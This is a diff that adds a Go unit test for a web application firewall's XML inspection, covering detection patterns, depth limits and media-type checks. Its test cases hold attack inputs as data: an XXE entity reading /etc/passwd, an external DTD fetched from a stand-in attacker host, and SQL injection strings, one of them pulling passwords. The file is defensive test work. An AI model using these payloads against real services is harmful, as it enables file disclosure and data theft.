@@ -0,0 +1,82 @@
+/*
+ * @Copyright Reserved By asec (https://www.asec.com/).
+ * @Author: thonsun
+ * @Date: 2026-10-19 14:50:28
+ * @Last Modified: thonsun, 2026-10-19 14:50:28
+ */
+
+package firewall
+
+import (
+	"context"
+	"net/http/httptest"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+
+	"asec/models"
+)
+
+func TestXMLValueHitPolicy(t *testing.T) {
+	policies := []*models.GroupPolicy{
+		{ID: 1, VulnID: 960, Action: models.Action_Block_100, IsEnabled: true},
+		{ID: 2, VulnID: 200, Action: models.Action_Block_100, IsEnabled: true},
+	}
+	patterns := []string{`(?i)<!(DOCTYPE|ENTITY)\b`, `(?i)union[\s/\*]+select`}
+	checkItems := newTestCheckItems(policies, models.ChkPointGetPostValue, patterns)
+	// The limits are reported to the XML check points
+	limitPolicies := []*models.GroupPolicy{
+		{ID: 3, VulnID: 200, Action: models.Action_Block_100, IsEnabled: true},
+		{ID: 4, VulnID: 200, Action: models.Action_Block_100, IsEnabled: true},
+	}
+	checkItems = append(checkItems,
+		&models.CheckItem{ID: 3, CheckPoint: models.ChkPointXMLDepth, Operation: models.OperationGreaterThanInteger, RegexPolicy: strconv.Itoa(maxXMLDepth), GroupPolicy: limitPolicies[0]},
+		&models.CheckItem{ID: 4, CheckPoint: models.ChkPointXMLValues, Operation: models.OperationGreaterThanInteger, RegexPolicy: "3", GroupPolicy: limitPolicies[1]},
+	)
+	defer installTestCheckItems(t, checkItems)()
+
+	deepBody := strings.Repeat("<a>", maxXMLDepth+1) + "1 union select 2" + strings.Repeat("</a>", maxXMLDepth+1)
+	cases := []struct {
+		body     string
+		expected int64
+	}{
+		// The siblings of the elements deeper than maxXMLDepth are inspected
+		{"<r>" + deepBody + "<b>1 union select 2</b></r>", 2},
+		{`<a x="1" y="2"><b z="3">4</b></a>`, 4},
+		// The empty values are not counted
+		{`<a x="" y=""><b z="">  </b>1</a>`, 0},
+		// The remaining of a malformed body is inspected
+		{`<a b="1 union select 2`, 2},
+		{`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, 1},
+		{`<?xml version="1.0" encoding="ISO-8859-1"?><!doctype foo SYSTEM "http://attacker/evil.dtd"><foo/>`, 1},
+		{`<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><q>1 union select 2</q></soap:Body></soap:Envelope>`, 2},
+		{`<user name="1 union select password from users"/>`, 2},
+		// Unclosed and mismatched elements are still inspected
+		{`<a><b>1 union select 2</a>`, 2},
+		{`<order><id>12</id><note>select a union of items</note></order>`, 0},
+		{deepBody, 3},
+		{`not xml`, 0},
+	}
+	for _, c := range cases {
+		var id int64
+		if matched, policy := IsXMLValueHitPolicy(&sync.Map{}, 0, []byte(c.body)); matched {
+			id = policy.ID
+		}
+		if id != c.expected {
+			t.Fatalf("%s hits %d, expected %d", c.body, id, c.expected)
+		}
+	}
+	// The query string of XML requests is inspected too
+	r := httptest.NewRequest("POST", "/api/orders?id=1%20union%20select%202", strings.NewReader("<order><id>12</id></order>"))
+	r.Header.Set("Content-Type", "text/xml")
+	r = r.WithContext(context.WithValue(r.Context(), "groupPolicyHitValue", &sync.Map{}))
+	if matched, policy := IsRequestHitPolicy(r, 0, "127.0.0.1"); !matched || policy.ID != 2 {
+		t.Fatal("query string of XML request is not inspected")
+	}
+	for mediaType, expected := range map[string]bool{"text/xml": true, "application/xml": true, "application/soap+xml": true, "application/json": false, "text/html": false} {
+		if IsXMLMediaType(mediaType) != expected {
+			t.Fatalf("IsXMLMediaType %s should be %v", mediaType, expected)
+		}
+	}
+}